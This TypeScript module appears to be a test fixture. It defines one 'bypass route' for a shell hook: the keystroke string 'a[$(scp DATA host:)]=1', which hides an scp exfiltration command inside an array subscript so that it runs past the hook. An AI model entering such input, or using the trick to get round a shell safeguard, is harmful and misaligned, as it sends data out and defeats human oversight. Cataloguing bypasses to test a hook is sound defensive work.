import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'command substitution in a subscript',
  source: 'attempts to get round a hook of the shell',
  keys: ['a[$(scp DATA host:)]=1\r'],
};
